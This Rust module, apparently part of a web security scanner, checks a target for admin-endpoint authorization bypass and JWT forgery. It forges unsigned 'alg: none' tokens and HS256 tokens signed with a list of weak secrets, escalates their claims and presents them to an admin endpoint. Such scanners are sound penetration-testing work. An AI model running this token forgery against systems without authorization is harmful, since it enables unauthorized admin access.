use crate::findings::{FindingLog, Severity};
use crate::http_client::Session;
use crate::security::jwt_analyzer::{self, WEAK_SECRETS};

pub const ADMIN_ENDPOINTS: &[&str] = &[
    "/api/admin/users",
    "/api/admin/organizations",
    "/api/admin/settings",
    "/api/admin/stats",
    "/admin",
    "/api/superuser",
];

/// Endpoint forged tokens are presented to.
pub const JWT_CHECK_ENDPOINT: &str = "/api/admin/users";

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum JwtOutcome {
    /// No bearer token configured
    Skipped,
    /// Token could not be decoded
    Undecodable,
    Tested,
}

/// Run the JWT forgery checks (when a bearer token is set), then request each
/// admin endpoint with the operator's session. A 200 is reported without
/// checking what the response actually contains.
pub async fn test_authentication_bypass(session: &Session, findings: &mut FindingLog) {
    println!("\n[*] Testing authentication bypass");

    test_jwt_manipulation(session, findings).await;

    for &endpoint in ADMIN_ENDPOINTS {
        let url = match session.endpoint(endpoint) {
            Ok(url) => url,
            Err(e) => {
                println!("[!] Error testing admin endpoint {}: {}", endpoint, e);
                continue;
            }
        };

        match session.get(&url).await {
            Ok(resp) if resp.is_ok() => {
                findings.log(
                    "Authorization Bypass - Admin Access",
                    Severity::Critical,
                    format!("Can access admin endpoint {} without proper authorization", endpoint),
                    format!("GET {} returns admin data", url),
                );
            }
            Ok(_) => {}
            Err(e) => {
                tracing::warn!(error = %e, "admin endpoint request failed");
                println!("[!] Error testing admin endpoint {}: {}", url, e);
            }
        }
    }
}

/// Decode the session's bearer token without verification, escalate its
/// claims and present forged copies (`alg: none`, then HS256 with weak
/// secrets) to the admin endpoint without cookies. The secret loop stops at
/// the first accepted token.
pub async fn test_jwt_manipulation(session: &Session, findings: &mut FindingLog) -> JwtOutcome {
    let Some(token) = session.bearer_token() else {
        return JwtOutcome::Skipped;
    };

    let decoded = match jwt_analyzer::decode_unverified(token) {
        Ok(decoded) => decoded,
        Err(e) => {
            tracing::debug!(error = %e, "bearer token is not a decodable JWT, skipping manipulation");
            return JwtOutcome::Undecodable;
        }
    };
    tracing::info!(alg = decoded.algorithm(), "testing JWT manipulation");

    let url = match session.endpoint(JWT_CHECK_ENDPOINT) {
        Ok(url) => url,
        Err(e) => {
            println!("[!] JWT manipulation test error: {}", e);
            return JwtOutcome::Tested;
        }
    };
    let escalated = jwt_analyzer::escalate_claims(&decoded.claims);

    match jwt_analyzer::forge_unsigned(&escalated) {
        Ok(forged) => match session.get_with_token(&url, &forged).await {
            Ok(resp) if resp.is_ok() => {
                findings.log(
                    "JWT - Algorithm None Attack",
                    Severity::Critical,
                    "JWT accepts 'none' algorithm allowing privilege escalation",
                    "Modified JWT with 'none' algorithm grants admin access",
                );
            }
            Ok(_) => {}
            Err(e) => tracing::debug!(error = %e, "alg=none request failed"),
        },
        Err(e) => tracing::debug!(error = %e, "could not forge alg=none token"),
    }

    for &secret in WEAK_SECRETS {
        let forged = match jwt_analyzer::forge_hs256(&escalated, secret) {
            Ok(forged) => forged,
            Err(e) => {
                tracing::debug!(error = %e, secret, "could not forge HS256 token");
                continue;
            }
        };

        match session.get_with_token(&url, &forged).await {
            Ok(resp) if resp.is_ok() => {
                findings.log(
                    "JWT - Weak Secret",
                    Severity::Critical,
                    format!("JWT uses weak secret '{}' allowing token forgery", secret),
                    format!("Forged JWT with secret '{}' grants admin access", secret),
                );
                break;
            }
            Ok(_) => {}
            Err(e) => tracing::debug!(error = %e, secret, "weak secret request failed"),
        }
    }

    JwtOutcome::Tested
}
